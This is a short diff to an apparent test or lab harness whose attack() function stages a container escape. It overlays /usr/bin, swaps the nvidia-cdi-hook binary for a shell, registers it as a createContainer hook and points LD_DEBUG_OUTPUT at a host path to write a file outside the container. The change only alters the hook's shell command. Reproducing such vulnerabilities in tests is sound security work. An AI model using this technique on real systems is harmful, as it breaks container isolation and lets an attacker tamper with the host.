@@ -16,7 +16,7 @@ def attack(t):
     t.sh("mkdir -p /mnt/up/upper /mnt/up/work")
     t.host_mount("overlay", "/usr/bin", "overlay", 0, "lowerdir=/usr/bin,upperdir=/mnt/up/upper,workdir=/mnt/up/work")
     shutil.copy("/bin/dash", "/usr/bin/nvidia-cdi-hook")
-    t.hook("createContainer", "/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "-c", "read line")
+    t.hook("createContainer", "/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "-c", "read line; true")
     t.env("LD_DEBUG", "libs")
     t.env("LD_DEBUG_OUTPUT", "/mnt/host/written")
     t.run("true")
